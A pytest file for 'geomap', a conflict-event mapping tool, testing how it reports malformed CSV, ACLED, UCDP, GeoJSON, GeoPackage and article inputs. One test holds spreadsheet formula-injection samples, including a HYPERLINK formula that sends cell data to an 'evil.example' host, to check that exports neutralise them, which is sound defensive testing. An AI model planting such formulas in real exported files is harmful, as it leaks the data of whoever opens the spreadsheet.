"""Bad input, file by file: each is reported where it is (``file:row: field: problem``) or refused
whole (``error: …``, exit status 2), and the good rows and files still land (issue 13).

Every file here is written by the test, shaped like what researchers' spreadsheets and
ACLED/UCDP exports really contain.
"""

from __future__ import annotations

import csv
import datetime as dt
import io
import json
import zipfile
from pathlib import Path

import geopandas as gpd
import pandas as pd
import pytest
from shapely.geometry import LineString, Point, Polygon

from geomap import cli
from geomap.errors import InputError
from geomap.gazetteer.boundaries import inside_country
from geomap.ingest.articles import read_article_items
from geomap.ingest.tables import read_table
from geomap.mapping.export import export_events
from geomap.pipeline import import_files
from geomap.schema import validate
from geomap.store import Store

HEADER = "event_date,event_type,actor1,country,location,latitude,longitude,fatalities,notes,source,source_url"
KIDAL = (
    "2023-11-14,Battles,Military Forces of Mali (2021-),Mali,Kidal,18.44345,1.40921,3,"
    "Army enters Kidal,Reuters,https://example.org/kidal"
)
TINZAOUATEN = (
    "2024-07-27,Battles,CSP,Mali,Tinzaouaten,19.95,2.93,47,Clash near the border,AFP,https://example.org/tinz"
)


def row(**change: str) -> str:
    """A row of a raid near Gao, with some cells changed (written as they would appear in the file)."""
    cells = {
        "event_date": "2023-09-08", "event_type": "Violence against civilians", "actor1": "JNIM",
        "country": "Mali", "location": "Gao", "latitude": "16.27167", "longitude": "-0.0442",
        "fatalities": "5", "notes": "Attack on a bus", "source": "Studio Tamani",
        "source_url": "https://example.org/gao",
    }  # fmt: skip
    cells.update(change)
    return ",".join(cells.values())


TODAY = dt.date.today().isoformat()
SHIFT = "an unquoted comma in a text field shifts the cells after it; put that field in double quotes"
COMMA = (
    "has a comma: a decimal comma or a thousands separator? "
    "write the number with a point as decimal mark (-0.5) and no separators"
)
LONG = "more than a spreadsheet cell holds (32,767): an unclosed quote swallowing the lines after it?"

#: (what goes wrong, the bad row written between two good ones, the problem reported for it: row 3)
ROW_CASES = [
    ("unquoted comma in a note shifts source and URL", row(notes="Attack on a bus, several wounded"),
     f"cells: 12 cells for 11 columns: {SHIFT}"),
    ("too few cells", "2023-09-08,Battles,JNIM,Mali,Gao,16.27,-0.04",
     "cells: 7 cells for 11 columns: a missing comma, or a line break inside an unquoted field?"),
    ("latitude out of range", row(latitude="123"), "latitude: 123.0 is outside -90..90"),
    ("longitude out of range", row(longitude="-190.5"), "longitude: -190.5 is outside -180..180"),
    ("metres of EPSG:3857 in a CSV", row(latitude="1836400", longitude="-4920"),
     "latitude: 1836400.0 is outside -90..90 "
     "(metres of a projected CRS? geomap reads degrees: give the file its CRS)"),
    ("missing coordinates written as 0", row(latitude="0", longitude="0"),
     "latitude: 0, 0 is in the Gulf of Guinea: missing coordinates written as 0?"),
    ("swapped latitude and longitude", row(latitude="-0.0442", longitude="16.27167"),
     "latitude: -0.0442, 16.27167 lies outside Mali but 16.27167, -0.0442 inside it: "
     "latitude and longitude swapped?"),
    ("future date", row(event_date="2204-03-12"),
     f"event_date: 2204-03-12 is in the future (today is {TODAY})"),
    ("invalid date", row(event_date="2023-02-30"), "event_date: not a date: '2023-02-30'"),
    ("the date 0000-01-01", row(event_date="0000-01-01"), "event_date: not a date: '0000-01-01'"),
    ("a placeholder date", row(event_date="0001-01-01"),
     "event_date: 0001-01-01 is before 1900: a placeholder for no date?"),
    ("ambiguous day/month", row(event_date="03/02/2023"),
     "event_date: '03/02/2023' is ambiguous: day/month or month/day (2023-02-03 or 2023-03-02)? "
     "write it as YYYY-MM-DD"),
    ("two-digit year", row(event_date="25/03/23"),
     "event_date: '25/03/23' has a two-digit year: write it as YYYY-MM-DD"),
    ("decimal comma in a longitude", row(longitude='"-0,5"'), f"longitude: '-0,5' {COMMA}"),
    ("decimal comma in fatalities", row(fatalities='"1,5"'), f"fatalities: '1,5' {COMMA}"),
    ("negative fatalities", row(fatalities="-3"), "fatalities: negative: -3"),
    ("absurd fatalities", row(fatalities="5000000"),
     "fatalities: 5,000,000 deaths in one event is not credible (> 1,000,000)"),
    ("a missing-value code as fatalities", row(fatalities="99999"),
     "fatalities: 99999 looks like a code for a missing value; leave the cell empty"),
    ("Python's 1_5 is not fifteen", row(fatalities="1_5"), "fatalities: not a number: '1_5'"),
    ("a 1 MB note", row(notes="x" * 1_048_576), f"notes: 1,048,576 characters, {LONG}"),
    ("a quoted cell over 131,072 characters", row(notes='"' + "Témoins:\n" * 15_000 + '"'),
     f"notes: 135,000 characters, {LONG}"),
    ("a repeated line", KIDAL,
     "event_id: same date, place, event type and sources as row 2 (a repeated line?); "
     "give each event its own event_id"),
    ("unknown event type", row(event_type="Skirmish"), "event_type: unknown event type 'Skirmish'"),
]  # fmt: skip


def _write(tmp_path: Path, text: str, name: str = "events.csv", encoding: str = "utf-8") -> Path:
    path = tmp_path / name
    path.write_bytes(text.encode(encoding))
    return path


def _read(path: Path):
    return read_table(path, inside_country=inside_country)


@pytest.mark.parametrize(("bad", "problem"), [c[1:] for c in ROW_CASES], ids=[c[0] for c in ROW_CASES])
def test_a_bad_row_is_named_and_the_good_rows_kept(tmp_path, bad: str, problem: str) -> None:
    path = _write(tmp_path, "\n".join([HEADER, KIDAL, bad, TINZAOUATEN]) + "\n")
    table = _read(path)
    assert [str(p) for p in table.problems] == [f"{path}:3: {problem}"]
    assert table.events["location"].tolist() == ["Kidal", "Tinzaouaten"]
    assert table.events["fatalities"].tolist() == [3, 47]


def test_an_unclosed_quote_is_reported_with_the_rows_it_swallowed(tmp_path) -> None:
    path = _write(tmp_path, "\n".join([HEADER, KIDAL, row(notes='"Attack on a bus'), TINZAOUATEN]) + "\n")
    table = _read(path)
    assert [str(p) for p in table.problems] == [
        f"{path}:3: cells: 9 cells for 11 columns: a missing comma, or a line break inside an unquoted field?"
    ]
    assert table.events["location"].tolist() == ["Kidal"]


@pytest.mark.parametrize(
    ("change", "column", "value"),
    [
        ({"fatalities": '"1,234"'}, "fatalities", 1234),  # thousands grouped by three: one reading only
        ({"event_date": "25/03/2023"}, "event_date", "2023-03-25"),  # only day/month can be meant
        ({"event_date": "03/03/2023"}, "event_date", "2023-03-03"),  # both readings are the same day
        ({"event_date": "8 September 2023"}, "event_date", "2023-09-08"),  # ACLED's spelled-out dates
        ({"event_date": "2023/09/08"}, "event_date", "2023-09-08"),
        (
            {"longitude": "1.5", "latitude": "11.2"},
            "latitude",
            11.2,
        ),  # in Burkina Faso, not Mali: not swapped
    ],
)
def test_values_with_one_reading_are_read_unchanged(tmp_path, change: dict, column: str, value) -> None:
    path = _write(tmp_path, "\n".join([HEADER, row(**change)]) + "\n")
    table = _read(path)
    assert table.problems == []
    assert table.events[column].iloc[0] == value


def test_a_semicolon_table_from_a_french_spreadsheet_reads_decimal_commas(tmp_path) -> None:
    text = (
        "event_date;event_type;country;location;latitude;longitude;fatalities;source\n"
        "2023-09-08;Battles;Mali;Gao;16,27167;-0,5;5;Studio Tamani\n"
        "2023-09-09;Battles;Mali;Gao;16,27167;-0,0442;1,5;Studio Tamani\n"
    )
    table = _read(_write(tmp_path, text, encoding="cp1252"))
    assert table.events["longitude"].tolist() == [-0.5]  # never -5.0
    assert table.events["latitude"].tolist() == [pytest.approx(16.27167)]
    assert [str(p) for p in table.problems] == [
        f"{tmp_path / 'events.csv'}:3: fatalities: not a whole number: '1,5'"
    ]


def test_an_excel_sep_line_names_the_delimiter_and_shifts_the_rows(tmp_path) -> None:
    text = "sep=;\nevent_date;event_type;country;location\n2023-09-08;Battles;Mali;Gao\n"
    text += "2023-02-30;Battles;Mali;Gao\n"
    path = _write(tmp_path, text)
    table = _read(path)
    assert table.events["location"].tolist() == ["Gao"]
    assert [str(p) for p in table.problems] == [f"{path}:4: event_date: not a date: '2023-02-30'"]


@pytest.mark.parametrize("encoding", ["utf-16", "utf-8-sig", "latin-1", "cp1252"])
def test_spreadsheet_encodings_keep_accented_names(tmp_path, encoding: str) -> None:
    text = "\n".join([HEADER, row(location="Ségou", notes="Attaque près de Ségou à l'aube"), KIDAL]) + "\n"
    table = _read(_write(tmp_path, text, encoding=encoding))
    assert table.problems == []
    assert table.events["location"].tolist() == ["Ségou", "Kidal"]
    assert table.events["notes"].iloc[0] == "Attaque près de Ségou à l'aube"
    guessed = encoding in ("latin-1", "cp1252")
    assert any("not UTF-8; read as" in note for note in table.notes) == guessed  # a guess is said


def test_repeated_ids_within_a_file_are_refused_not_overwritten(tmp_path) -> None:
    text = (
        "event_id,event_date,event_type,country,location,fatalities_low,fatalities_high\n"
        "raid-1,2023-09-08,Battles,Mali,Gao,2,5\n"
        "raid-1,2023-09-09,Battles,Mali,Ansongo,1,1\n"
        "raid-2,2023-09-10,Battles,Mali,Bourem,9,4\n"
        "raid-3,2023-09-11,Battles,Mali,Bourem,4,9\n"
    )
    path = _write(tmp_path, text)
    table = _read(path)
    assert [str(p) for p in table.problems] == [
        f"{path}:3: event_id: 'raid-1' repeats row 2",
        f"{path}:4: fatalities_high: 4 is below fatalities_low 9",
    ]
    assert table.events["event_id"].tolist() == ["raid-1", "raid-3"]


ACLED_HEADER = (
    "event_id_cnty,event_date,year,time_precision,disorder_type,event_type,sub_event_type,actor1,inter1,"
    "actor2,inter2,interaction,country,admin1,location,latitude,longitude,geo_precision,source,source_scale,"
    "notes,fatalities"
)


def _acled(
    event_id: str, date: str = "2023-09-08", inter1: str = "Political militia", deaths: str = "5"
) -> str:
    return (
        f"{event_id},{date},2023,1,Political violence,Violence against civilians,Attack,JNIM,{inter1},"
        f"Civilians (Mali),Civilians,Political militia-Civilians,Mali,Gao,Gao,16.2717,-0.0442,1,"
        f'Studio Tamani,National,"On {date}, JNIM attacked a bus near Gao.",{deaths}'
    )


UCDP_HEADER = (
    "id,year,type_of_violence,conflict_name,side_a,side_b,source_article,source_office,source_date,"
    "source_headline,where_prec,where_coordinates,adm_1,adm_2,latitude,longitude,country,date_prec,"
    "date_start,date_end,best,high,low"
)


def _ucdp(
    event_id: str, *, start: str = "2023-09-08 00:00:00.000", where: str = "1", low="4", high="9"
) -> str:
    return (
        f'{event_id},2023,3,Mali: civilians,JNIM,Civilians,"Studio Tamani, 2023-09-09",Studio Tamani,'
        f"2023-09-09 00:00:00.000,Bus attacked near Gao,{where},Gao town,Gao region,Gao cercle,16.27167,"
        f"-0.0442,Mali,1,{start},{start},5,{high},{low}"
    )


#: (format, header, rows from row 2 on, problems by row, origin ids kept)
CODED_EXPORTS = {
    "acled": (
        ACLED_HEADER,
        [
            _acled("XMLI1001"),
            _acled("XMLI1002", inter1="Militia"),  # not an ACLED actor type
            _acled("XMLI1003", deaths="n/a"),
            _acled("XMLI1001", date="2023-09-09"),  # the id of row 2 again
            _acled("XMLI1004", date="09/08/2023"),
            _acled("XMLI1005", date="9 September 2023"),
        ],
        [
            "3: inter1: not a number: 'Militia'",
            "4: fatalities: not a number: 'n/a'",
            "5: origin_id: 'XMLI1001' repeats row 2",
            "6: event_date: '09/08/2023' is ambiguous: "
            "day/month or month/day (2023-08-09 or 2023-09-08)? write it as YYYY-MM-DD",
        ],
        ["XMLI1001", "XMLI1005"],
    ),
    "ucdp-ged": (
        UCDP_HEADER,
        [
            _ucdp("700001"),
            _ucdp("700002", start="2023-13-01 00:00:00.000"),
            _ucdp("700003", where="unknown"),
            _ucdp("700004", low="10", high="2"),
            _ucdp("700001"),
            _ucdp("700005"),
        ],
        [
            "3: event_date: not a date: '2023-13-01'",
            "4: geo_precision: not a number: 'unknown'",
            "5: fatalities_high: 2 is below fatalities_low 10",
            "6: origin_id: 'ucdp:700001' repeats row 2",
        ],
        ["ucdp:700001", "ucdp:700005"],
    ),
}


@pytest.mark.parametrize("fmt", list(CODED_EXPORTS))
def test_an_acled_or_ucdp_export_with_malformed_rows(tmp_path, fmt: str) -> None:
    header, rows, problems, kept = CODED_EXPORTS[fmt]
    path = _write(tmp_path, "\n".join([header, *rows]) + "\n", name=f"{fmt}.csv")
    table = _read(path)
    assert table.format == fmt
    assert [str(p) for p in table.problems] == [f"{path}:{p}" for p in problems]
    assert table.events["origin_id"].tolist() == kept


def _events(*places: tuple[str, object]) -> gpd.GeoDataFrame:
    return gpd.GeoDataFrame(
        {
            "event_date": ["2023-09-08"] * len(places),
            "event_type": ["Battles"] * len(places),
            "country": ["Mali"] * len(places),
            "location": [name for name, _ in places],
        },
        geometry=[geometry for _, geometry in places],
        crs="EPSG:4326",
    )


def test_geojson_polygons_are_placed_inside_and_lines_refused(tmp_path) -> None:
    region = Polygon([(-1.0, 15.5), (1.0, 15.5), (1.0, 17.0), (-1.0, 17.0)])  # around Gao
    route = LineString([(-0.04, 16.27), (1.41, 18.44)])  # the road from Gao to Kidal
    path = tmp_path / "events.geojson"
    _events(("Gao", Point(-0.0442, 16.27167)), ("Gao region", region), ("Gao-Kidal road", route)).to_file(
        path
    )
    table = _read(path)
    assert [str(p) for p in table.problems] == [
        f"{path}:3: geometry: a LineString: geomap places an event at a point or inside an area; "
        "give a Point (or the Polygon of the area)"
    ]
    events = table.events.set_index("location")
    assert region.contains(Point(events.loc["Gao region", "longitude"], events.loc["Gao region", "latitude"]))
    assert events.loc["Gao region", "geo_precision"] == 2  # not "the place itself"
    assert events.loc["Gao region", "notes"] == "placed at a point inside its Polygon"
    assert events.loc["Gao", "geo_precision"] == 1


@pytest.mark.parametrize("suffix", [".geojson", ".gpkg"])
def test_a_projected_file_is_reprojected_not_read_as_degrees(tmp_path, suffix: str) -> None:
    path = tmp_path / f"web_mercator{suffix}"
    _events(("Kidal", Point(1.40921, 18.44345)), ("Gao", Point(-0.0442, 16.27167))).to_crs(
        "EPSG:3857"
    ).to_file(path)
    table = _read(path)
    assert table.problems == []
    events = table.events.set_index("location")
    assert events.loc["Kidal", "latitude"] == pytest.approx(18.44345, abs=1e-6)
    assert events.loc["Gao", "longitude"] == pytest.approx(-0.0442, abs=1e-6)
    assert table.notes == [f"{path}: coordinates reprojected from EPSG:3857 to WGS84 degrees"]


def test_every_event_layer_of_a_geopackage_is_read_and_the_others_named(tmp_path) -> None:
    path = tmp_path / "fieldwork.gpkg"
    _events(("Kidal", Point(1.40921, 18.44345))).to_file(path, layer="raids")
    bad = _events(("Gao", Point(-0.0442, 16.27167)), ("Ansongo", Point(0.50222, 15.65972)))
    bad.loc[1, "event_date"] = "2023-02-30"
    bad.to_file(path, layer="clashes")
    regions = gpd.GeoDataFrame({"name": ["Gao"]}, geometry=[Point(0, 16)], crs="EPSG:4326")
    regions.to_file(path, layer="regions")
    table = _read(path)
    assert sorted(table.events["location"]) == ["Gao", "Kidal"]
    assert [str(p) for p in table.problems] == [
        f"{path}|layername=clashes:2: event_date: not a date: '2023-02-30'"
    ]
    assert f"{path}: layer 'regions' skipped: it has no event_date and event_type fields" in table.notes
    assert f"{path}: 2 layer(s) of events read: raids, clashes" in table.notes


def test_a_geomap_store_given_as_input_gives_its_events_once(tmp_path) -> None:
    source = _write(tmp_path, "\n".join([HEADER, KIDAL, TINZAOUATEN]) + "\n")
    store = Store(tmp_path / "colleague.gpkg")
    import_files([source], store=store)
    table = _read(store.path)
    assert sorted(table.events["location"]) == ["Kidal", "Tinzaouaten"]  # not twice, from events and reports
    assert table.problems == []
    assert table.notes == [
        f"{store.path}: a geomap store: layer 'events' read, not 'reports' (the same events, unmerged)",
        f"{store.path}: layer 'sources' skipped: it has no event_date and event_type fields",
        f"{store.path}: layer 'evidence' skipped: it has no event_date and event_type fields",
        f"{store.path}: layer 'corrections' skipped: it has no event_date and event_type fields",
        f"{store.path}: 1 layer(s) of events read: events",
    ]


def test_one_bad_article_in_a_json_list_keeps_the_others(tmp_path) -> None:
    path = tmp_path / "articles.json"
    text = "The Malian army entered Kidal on 14 November 2023, residents said."
    items = [
        {"outlet": "Sahel Desk", "published": "2023-11-15", "text": text},
        {"outlet": "Sahel Desk", "published": "2023-11-16", "title": "No body"},
        {"outlet": "Sahel Desk", "published": "03/02/2024", "text": text},
        "a bare string",
    ]
    path.write_text(json.dumps(items), encoding="utf-8")
    articles, problems = read_article_items(path)
    assert [a.item for a in articles] == [1]
    assert [str(p) for p in problems] == [
        f"{path}:2: text: missing or empty",
        f"{path}:3: published: '03/02/2024' is ambiguous: day/month or month/day (2024-02-03 or 2024-03-02)? "
        "write it as YYYY-MM-DD",
        f"{path}:4: text: expected an object with a `text` field",
    ]
    report = import_files([path], store=Store(tmp_path / "s.gpkg"))
    assert [str(p) for p in report.problems] == [str(p) for p in problems]
    assert report.events_read >= 1
    assert not report.file_errors


def _workbook() -> bytes:
    buffer = io.BytesIO()
    with zipfile.ZipFile(buffer, "w") as archive:
        archive.writestr("[Content_Types].xml", "<Types/>")
        archive.writestr("xl/worksheets/sheet1.xml", "<worksheet>" + "<row/>" * 200 + "</worksheet>")
    return buffer.getvalue()


def _gpkg_bytes(tmp_path: Path) -> bytes:
    path = tmp_path / "whole.gpkg"
    _events(("Kidal", Point(1.40921, 18.44345))).to_file(path)
    return path.read_bytes()


#: (what goes wrong, file name, content (or a function of tmp_path), what the error says after the path)
FILE_CASES = [
    ("empty file", "events.csv", b"", "empty file"),
    ("blank lines only", "events.csv", b"\r\n \r\n", "empty file"),
    ("header only", "events.csv", (HEADER + "\n").encode(), "a header and no data rows"),
    ("a workbook named .csv", "events.csv", _workbook(),
     "binary data, not text (a workbook or an image? save it as CSV)"),
    ("an image named .csv", "events.csv", b"\x89PNG\r\n\x1a\n\x00\x00\x00\rIHDR" + bytes(range(256)) * 8,
     "binary data, not text (a workbook or an image? save it as CSV)"),
    ("a column named twice", "events.csv",
     b"event_date,event_type,location,Location\n2023-09-08,Battles,G,H\n",
     "the header names column 'location' twice; which one holds it?"),
    ("no known columns", "events.csv", b"date;type;place\n2023-09-08;Battles;Gao\n",
     "no recognisable columns: expected geomap's own (event_date, event_type, …), an ACLED export "
     "(event_id_cnty, disorder_type, …) or UCDP GED (where_prec, date_prec, side_a, …)"),
    ("a GeoJSON without features", "events.geojson", b'{"type": "FeatureCollection", "features": []}',
     "no features"),
    ("a truncated GeoPackage", "events.gpkg", lambda tmp: _gpkg_bytes(tmp)[:3000],
     "cannot read as GeoJSON/GeoPackage"),
    ("an article list with no usable item", "articles.json", b'[{"title": "x"}, {"text": ""}]',
     "no usable article in the list: item 1: text: missing or empty"),
    ("an article with an ambiguous date", "kidal.md",
     b"---\npublished: 03/02/2024\n---\nThe Malian army entered Kidal on 14 November 2023.\n",
     "field `published`: '03/02/2024' is ambiguous: day/month or month/day (2024-02-03 or 2024-03-02)? "
     "write it as YYYY-MM-DD"),
    ("an article from the future", "kidal.md",
     b"---\npublished: 2204-03-12\n---\nThe Malian army entered Kidal on 14 November 2023.\n",
     "field `published`: 2204-03-12 is before 1900 or in the future"),
]  # fmt: skip


@pytest.mark.parametrize(
    ("name", "content", "words"), [c[1:] for c in FILE_CASES], ids=[c[0] for c in FILE_CASES]
)
def test_an_unusable_file_is_an_error_with_exit_status_2(tmp_path, capsys, name: str, content, words) -> None:
    path = tmp_path / name
    path.write_bytes(content(tmp_path) if callable(content) else content)
    code = cli.main(["import", str(path), "--store", str(tmp_path / "s.gpkg")])
    err = capsys.readouterr().err
    assert code == 2
    assert err.splitlines()[0].startswith(f"error: {path}")
    assert words in err.splitlines()[0]
    assert "Traceback" not in err
    assert not (tmp_path / "s.gpkg").exists()  # nothing was written


def test_a_folder_with_bad_files_imports_the_good_ones(tmp_path, capsys, monkeypatch) -> None:
    folder = tmp_path / "inbox"
    folder.mkdir()
    _write(folder, "\n".join([HEADER, KIDAL, TINZAOUATEN]) + "\n", name="good.csv")
    _write(folder, "\n".join([HEADER, row(event_date="0000-01-01")]) + "\n", name="year_zero.csv")
    _write(folder, "\n".join([HEADER, row(notes='"' + "x" * 140_000 + '"'), row()]) + "\n", name="huge.csv")
    locked = _write(folder, "\n".join([HEADER, row()]) + "\n", name="locked.csv")
    (folder / "whole.gpkg").write_bytes(_gpkg_bytes(tmp_path)[:3000])
    (folder / "moved.csv").symlink_to(tmp_path / "nowhere.csv")
    real_read_bytes = Path.read_bytes

    def read_bytes(self: Path) -> bytes:  # a file the user may not read (tests run as root, so chmod is moot)
        if self == locked:
            raise PermissionError(13, "Permission denied", str(self))
        return real_read_bytes(self)

    monkeypatch.setattr(Path, "read_bytes", read_bytes)
    store = tmp_path / "s.gpkg"
    code = cli.main(["import", str(folder), "--store", str(store)])
    out, err = capsys.readouterr()
    assert code == 2
    assert "Traceback" not in err
    lines = err.splitlines()
    assert f"rejected {folder / 'year_zero.csv'}:2: event_date: not a date: '0000-01-01'" in lines
    assert f"rejected {folder / 'huge.csv'}:2: notes: 140,000 characters, {LONG}" in lines
    assert f"error: {locked}: cannot read: Permission denied" in lines
    assert f"error: {folder / 'moved.csv'}: no such file" in lines
    assert any(
        line.startswith(f"error: {folder / 'whole.gpkg'}: cannot read as GeoJSON/GeoPackage")
        for line in lines
    )
    assert lines[-1] == "error: 3 of 6 file(s) could not be read"
    assert "3 events read from 6 file(s)" in out
    assert sorted(Store(store).read_events()["location"]) == ["Gao", "Kidal", "Tinzaouaten"]


def test_exported_csv_neutralises_formulas_in_text_but_not_numbers(tmp_path) -> None:
    hostile = ['=HYPERLINK("http://evil.example/?d="&A1,"Reuters")', "+254 dead", "-1 wounded", "@SUM(A1:A9)",
               "\tindented", "\rreturn", "Kidal, a quiet day"]  # fmt: skip
    raw = pd.DataFrame(
        {
            "event_date": "2023-09-08",
            "event_type": "Battles",
            "country": "Mali",
            "location": "Gao",
            "latitude": 16.27167,
            "longitude": [-0.5 - i / 100 for i in range(len(hostile))],
            "fatalities": 2,
            "notes": hostile,
            "actor1": hostile,
            "source": "Studio Tamani",
        }
    )
    events, problems = validate(raw, file="hostile.csv")
    assert problems == []
    events["notes"] = events["actor1"] = hostile  # validation trims text; a correction need not
    path = export_events(events, tmp_path / "out.csv", fmt="csv")
    with path.open(encoding="utf-8", newline="") as handle:
        exported = list(csv.DictReader(handle))
    assert [r["notes"] for r in exported] == ["'" + h for h in hostile[:-1]] + [hostile[-1]]
    assert [r["actor1"] for r in exported] == [r["notes"] for r in exported]
    assert [r["longitude"] for r in exported] == [str(-0.5 - i / 100) for i in range(len(hostile))]
    assert {r["fatalities"] for r in exported} == {"2"}
    assert all(not r["event_date"].startswith("'") for r in exported)


def test_read_table_names_an_unreadable_file(tmp_path, monkeypatch) -> None:
    path = _write(tmp_path, "\n".join([HEADER, KIDAL]) + "\n")
    monkeypatch.setattr(
        Path, "read_bytes", lambda self: (_ for _ in ()).throw(PermissionError(13, "Permission denied"))
    )
    with pytest.raises(InputError, match=rf"^{path}: cannot read: Permission denied$"):
        read_table(path)
